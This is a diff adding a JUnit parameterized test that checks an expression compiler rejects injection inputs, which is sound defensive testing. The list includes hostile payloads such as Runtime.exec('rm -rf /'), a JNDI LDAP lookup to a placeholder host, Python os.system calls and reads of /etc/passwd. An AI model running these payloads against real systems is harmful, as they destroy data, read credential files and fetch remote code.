@@ -333,6 +333,28 @@ class ExpressionTest {
                 .hasMessageContaining("…' (1804 characters), column 1801");
     }
 
+    @ParameterizedTest(name = "[{index}] {0}")
+    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
+            java.lang.Runtime.getRuntime().exec('rm -rf /')
+            name.getClass()
+            getClass().forName('java.lang.System')
+            T(java.lang.Runtime)
+            ${jndi:ldap://example.invalid/a}
+            #{7*7}
+            Class.forName('x')
+            __import__('os').system('ls')
+            System.exit(1)
+            new java.io.File('/etc/passwd')
+            while(true)
+            amount; exit()
+            load('file:///etc/passwd')
+            url('http://example.invalid')
+            import java.io
+            """)
+    void refusesAttemptsToReachJava(String source) {
+        assertThatThrownBy(() -> Expression.compile(source, VARIABLES)).isInstanceOf(ExpressionException.class);
+    }
+
     @Test
     void refusesTooLongText() {
         char[] huge = new char[1 << 20];
